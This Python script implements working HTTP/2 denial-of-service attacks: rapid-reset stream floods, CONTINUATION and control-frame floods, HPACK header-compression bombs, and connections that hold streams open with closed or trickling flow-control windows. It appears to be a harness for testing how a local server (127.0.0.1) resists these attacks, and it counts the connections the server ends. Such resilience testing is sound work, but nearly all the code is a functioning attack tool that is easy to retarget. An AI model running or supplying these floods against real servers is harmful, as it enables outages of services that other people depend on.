"""Clients that attack a server by HTTP/2, over cleartext.

    http2_attackers.py ATTACK PORT PATH SECONDS

A flood is what one connection sends until the server ends it; then another connection follows, so
that the client sends as much as it can. Connections that hold what they have opened stay until the
server ends them. Prints a line of JSON: connections, frames sent, and how many the server ended.
"""

import contextlib
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Iterator

from transport import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    frame,
    request_frame,
    settings,
)

FLOOD = 2000
"""Frames of a flood, or pairs of them: more than the server allows."""
HELD = 200
"""Connections that hold streams."""
STREAMS = 100
_TIMEOUT_S = 10.0
_POST = b"\x83"
_CANCEL = b"\0\0\0\x08"
_REFERENCE = b"\xbe"
"""To the newest field of the table."""


def _resets(path: str) -> Iterator[bytes]:
    for stream in range(1, 2 * FLOOD, 2):
        yield request_frame(stream, path) + frame(RST_STREAM, 0, stream, _CANCEL)


def _continuations(path: str) -> Iterator[bytes]:
    field = b"\0\1x\x7f\x81\x7c" + bytes(b"u" * 16000)
    yield frame(HEADERS, END_STREAM, 1, block(path))
    yield from [frame(CONTINUATION, 0, 1, field)] * 16


def _of_an_open_stream(path: str, one: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, block(path, _POST))
    yield from [one] * FLOOD


def _bombs(path: str) -> Iterator[bytes]:
    first = block(path, _POST) + b"\x40\1x\x7f\xb9\x16" + b"a" * 3000
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
    body = block(path, _POST) + _REFERENCE * 13000
    for stream in range(3, 200, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, body)


def flood_of(attack: str, path: str) -> bytes | None:
    """Return the frames of a flood; None: the attack is no flood."""
    one = {
        "settings": frame(SETTINGS, 0, 0),
        "ping": frame(PING, 0, 0, bytes(8)),
        "empty data": frame(DATA, 0, 1),
        "window updates": frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
    }
    others = {"resets": _resets, "continuation": _continuations, "bombs": _bombs}
    if attack in one:
        return settings() + b"".join(_of_an_open_stream(path, one[attack]))
    return settings() + b"".join(others[attack](path)) if attack in others else None


def held_of(attack: str, path: str) -> tuple[bytes, bytes]:
    """Return what opens the streams of a connection, and what it sends each second."""
    ids = range(1, 2 * STREAMS, 2)
    if attack == "closed windows":
        return settings(0) + b"".join(request_frame(i, path) for i in ids), b""
    opened = b"".join(frame(HEADERS, END_HEADERS, i, block(path, _POST)) for i in ids)
    return settings() + opened, b"".join(frame(DATA, 0, i, b"x") for i in ids)


def connect(port: int) -> socket.socket:
    """Return a connection."""
    return socket.create_connection(("127.0.0.1", port), timeout=_TIMEOUT_S)


def flood(port: int, frames: bytes, end: float) -> dict[str, int]:
    """Send the flood on one connection after another."""
    counts = {"connections": 0, "ended": 0}
    while time.monotonic() < end:
        with connect(port) as client:
            counts["connections"] += 1
            counts["ended"] += is_ended_by(client, frames)
    return counts


def is_ended_by(client: socket.socket, frames: bytes) -> bool:
    """Send the flood; tell whether the server has ended the connection."""
    try:
        client.sendall(frames)
        while client.recv(1 << 16):
            pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


def hold(port: int, at_once: bytes, each_second: bytes, end: float) -> dict[str, int]:
    """Hold streams on many connections; those that the server ends are replaced."""
    counts = {"connections": 0, "ended": 0}
    held: list[socket.socket] = []
    poll = select.poll()
    while time.monotonic() < end:
        while len(held) < HELD:
            client = connect(port)
            client.sendall(at_once)
            counts["connections"] += 1
            poll.register(client, select.POLLRDHUP)
            held.append(client)
        time.sleep(min(1.0, max(0.0, end - time.monotonic())))
        over = {fd for fd, _ in poll.poll(0)}
        for client in [one for one in held if one.fileno() in over]:
            poll.unregister(client)
            client.close()
            held.remove(client)
            counts["ended"] += 1
        for client in held:
            with contextlib.suppress(OSError):
                client.sendall(each_second)
    for client in held:
        client.close()
    return counts


def main() -> int:
    """Run the attack."""
    attack, port, path, seconds = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    frames = flood_of(attack, path)
    if frames:
        counts = flood(int(port), frames, end)
    else:
        counts = hold(int(port), *held_of(attack, path), end)
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    sys.exit(main())
